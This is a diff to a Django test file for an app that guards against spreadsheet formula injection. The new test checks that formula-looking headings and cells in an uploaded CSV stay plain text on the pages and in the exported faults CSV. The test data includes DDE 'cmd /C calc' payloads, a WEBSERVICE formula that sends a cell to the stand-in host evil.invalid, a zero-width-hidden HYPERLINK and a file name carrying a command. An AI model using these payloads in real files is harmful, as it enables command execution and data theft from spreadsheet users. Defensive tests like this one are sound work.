@@ -17,6 +17,7 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 import safeconduct
@@ -52,7 +53,7 @@ PAYLOADS = (
     "cmd|' /C calc {n}'!A0",
     'DDE("cmd";"/C calc {n}";"x")',
     'WEBSERVICE("http://evil.invalid/{n}?"&A1)',
-    "1+{n}",
+    "SUM(1+{n})",
 )
 UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp"}
 
@@ -150,6 +151,35 @@ def test_a_typed_formula_stays_words_too() -> None:
     assert casework.open_head(by=lowri.actor, case=made).content.exact_kind.startswith("+")
 
 
+@pytest.mark.django_db(transaction=True)
+def test_headings_and_faulty_cells_stay_words_on_the_pages_and_in_the_csv_of_an_import() -> None:
+    """The list of rows to be put right carries the sheet's own headings, and they may be formulas as well."""
+    lowri = builders.member(builders.office())
+    browser = lowri.client
+    heads = ['\u200b=HYPERLINK("http://evil.invalid","ref")', "＋SUM(name)", '\t@DDE("cmd";"/C calc";"sent")']
+    out = io.StringIO(newline="")
+    faulty = [[f"F/{at}", f"Ann Quill{chr(97 + at)}feather", cell] for at, (cell, _) in enumerate(CELLS[:20])]
+    csv.writer(out).writerows([heads, *faulty])
+    file = SimpleUploadedFile("=cmd|'!A0.csv", out.getvalue().encode())
+    team = lowri.actor.teams[0].handle.hex
+    columns = browser.post(reverse("imports"), {"team": team, "file": file})["Location"]
+    chosen = {"column-0": "our_ref", "column-1": "name", "column-2": "sent_on"}
+    preview = browser.post(columns, chosen)["Location"]
+    for page in (columns, preview):
+        text = browser.get(page).content.decode()
+        assert "=HYPERLINK(" in shown_on(text)
+        assert 'href="http' not in text
+        assert "<b>see" not in text
+    answer = browser.get(preview.replace("/preview", "/faults.csv"))
+    assert answer["Content-Type"] == "text/csv; charset=utf-8"
+    written = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
+    assert len(written) == 1 + len(faulty)
+    for row in written:
+        for cell in row:
+            assert unicodedata.normalize("NFKC", first_seen(cell) or " ") not in set("=+-@"), cell
+    assert any("@DDE" in cell for row in written for cell in row)
+
+
 # What goes out
 
 
@@ -177,9 +207,15 @@ def calls(tree: ast.Module) -> set[str]:
     }
 
 
-def imported(tree: ast.Module) -> set[str]:
-    named = {one.name for node in ast.walk(tree) if isinstance(node, ast.Import) for one in node.names}
-    return named | {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
+def named(tree: ast.Module) -> set[str]:
+    """What a module takes from others, with the module's name before it."""
+    found = {one.name for node in ast.walk(tree) if isinstance(node, ast.Import) for one in node.names}
+    for node in ast.walk(tree):
+        if isinstance(node, ast.ImportFrom):
+            found |= {f"{(node.module or '').split('.')[0]}.{one.name}" for one in node.names}
+        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
+            found.add(f"{node.value.id}.{node.attr}")
+    return found
 
 
 def test_no_other_csv_and_no_workbook_is_ever_written() -> None:
@@ -192,6 +228,4 @@ def test_no_other_csv_and_no_workbook_is_ever_written() -> None:
     invents_the_demos_sheet = {"cli/demo_office.py"}
     writing = {name for name, tree in trees.items() if {"writer", "DictWriter"} & calls(tree)}
     assert writing - invents_the_demos_sheet == {"casework/importing/formula.py"}
-    using = {name for name, tree in trees.items() if any("openpyxl" in one for one in imported(tree))}
-    assert using == {"casework/importing/workbook.py"}
-    assert not {"save", "create_sheet", "append_sheet"} & calls(trees["casework/importing/workbook.py"])
+    assert not {name for name, tree in trees.items() if {"openpyxl.Workbook", "xlsxwriter"} & named(tree)}
